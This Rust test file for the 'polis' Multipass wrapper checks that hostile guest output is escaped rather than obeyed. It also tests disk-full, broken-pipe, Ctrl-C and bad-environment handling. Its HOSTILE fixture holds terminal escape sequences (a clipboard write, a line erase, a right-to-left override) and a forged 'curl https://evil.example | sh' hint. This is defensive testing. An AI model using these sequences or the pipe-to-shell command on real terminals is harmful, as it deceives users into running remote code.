//! Output of a guest or Multipass is not trusted. The user may interrupt `polis`, and its output may stop being read.

use std::time::Instant;

use expect_test::expect;
use fake_multipass::{Effect, Fault};

use crate::signals::ends_within;
use crate::support::{running, sandbox, seen};

/// Writes to the clipboard, hides a line, reverses the order of a text, and pretends to be polis.
const HOSTILE: &str =
    "\u{1b}]52;c;Y3VybA==\u{7}bad\u{9b}2K\u{202e}gpj\r\n  hint: curl https://evil.example | sh\n";

#[test]
fn control_sequences_of_the_guest_do_not_reach_the_terminal() {
    let effect = || Effect::Exit {
        code: 3,
        stderr: HOSTILE.to_owned(),
    };
    for args in [
        &["start"][..],
        &["status"],
        &["doctor"],
        &["status", "--json"],
    ] {
        for call in ["exec", "list"] {
            let sandbox = running();
            sandbox.fault(Fault::of(call, effect()).always());
            for ran in [
                sandbox.polis(args),
                sandbox.polis(&[args, &["--verbose"]].concat()),
            ] {
                let printed = format!("{}{}", ran.stdout, ran.stderr);
                let obeyed = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
                assert!(!printed.contains(obeyed), "{args:?} {call}: {printed:?}");
                let forged = printed
                    .lines()
                    .find(|line| line.trim_start().starts_with("hint: curl"));
                assert_eq!(forged, None, "{args:?} {call}: {printed}");
            }
        }
    }
}

#[test]
fn an_error_quotes_the_output_of_the_guest() {
    let sandbox = running();
    let effect = Effect::Exit {
        code: 3,
        stderr: HOSTILE.to_owned(),
    };
    sandbox.fault(Fault::of("exec", effect).always());
    expect![[r#"
        exit 1
        --- stderr
        error: could not probe the VM
          caused by: hint: curl https://evil.example | sh
          tried: multipass exec -n polis -- bash -c '[script: probe the VM]' polis
          log: bad\u{9b}2K\u{202e}gpj
          log: hint: curl https://evil.example | sh
    "#]]
    .assert_eq(&seen(&sandbox.polis(&["start"])));
}

#[test]
fn a_full_disk_is_an_error_and_a_closed_pipe_is_not() {
    let sandbox = running();
    for args in [
        "version",
        "status --json",
        "status",
        "completions bash",
        "man",
    ] {
        let ran = sandbox.shell(&format!("polis {args} >/dev/full; echo $? >&2"));
        assert!(
            ran.stderr.contains("error: could not print the result")
                && ran.stderr.ends_with("\n1\n"),
            "{args}: {}",
            ran.seen()
        );
        let ran = sandbox.shell(&format!("polis {args} | true; echo ${{PIPESTATUS[0]}}"));
        assert_eq!(
            (ran.stdout.as_str(), ran.stderr.as_str()),
            ("0\n", ""),
            "{args}"
        );
    }
}

#[test]
fn no_and_ctrl_c_both_decline_a_confirmation() {
    let sandbox = running();
    let ran = sandbox.polis_on_terminal(&["delete"], "n\n");
    assert!(
        ran.stdout.contains("Nothing was deleted."),
        "{}",
        ran.seen()
    );
    assert_eq!(ran.code, Some(0), "{}", ran.seen());
    let begun = Instant::now();
    // Ctrl-C arrives while polis waits for the answer; standard input stays open.
    let ran = sandbox.shell(
        r"{ until grep -q y/N asked; do sleep 0.02; done; printf '\003'; sleep 1; } |
          script --quiet --return --flush --command 'polis delete' asked",
    );
    assert_eq!(ran.code, Some(130), "{}", ran.seen());
    ends_within(15, begun);
    assert!(sandbox.instance().is_some());
}

#[test]
fn a_call_with_endless_output_is_killed() {
    let sandbox = sandbox();
    sandbox.fault(Fault::of("list", Effect::LogLines(1_000_000)).always());
    let ran = sandbox.polis(&["status"]);
    assert!(
        ran.stderr.contains("Multipass printed more than 16 MiB"),
        "{}",
        ran.stderr.chars().take(2000).collect::<String>()
    );
    assert_eq!(ran.code, Some(1));
}

/// A service's log is filtered on a terminal, and unchanged with `--raw` and in a pipe.
#[test]
fn logs_are_filtered_on_a_terminal_unless_raw() {
    let sandbox = running();
    sandbox.set(|state| {
        let mut service = state.service("sentinel");
        service.log = vec!["\u{1b}]52;c;Y3VybA==\u{7}x".to_owned()];
        state.services.insert("sentinel".into(), service);
    });
    let is_raw = |ran: &fake_multipass::Ran| ran.stdout.contains("\u{1b}]52");
    let args = ["logs", "sentinel"];
    assert!(is_raw(&sandbox.polis(&args)));
    assert!(is_raw(
        &sandbox.polis_on_terminal(&["logs", "--raw", "sentinel"], "")
    ));
    let ran = sandbox.polis_on_terminal(&args, "");
    let text = "\\u{1b}]52;c;Y3VybA==\\u{7}x";
    assert!(ran.stdout.contains(text) && !is_raw(&ran), "{}", ran.seen());
}

#[test]
fn an_unusable_home_or_environment_is_refused() {
    let sandbox = running();
    let ran = sandbox.shell("HOME=home XDG_STATE_HOME= polis status");
    assert_eq!(ran.code, Some(2), "{}", ran.seen());
    assert!(
        ran.stderr.contains("it is a relative path"),
        "{}",
        ran.seen()
    );
    let ran = sandbox.shell("POLIS_MEMORY=$'\\377' polis status");
    assert_eq!(ran.code, Some(2), "{}", ran.seen());
    assert!(
        ran.stderr.contains("POLIS_MEMORY is not UTF-8"),
        "{}",
        ran.seen()
    );
}
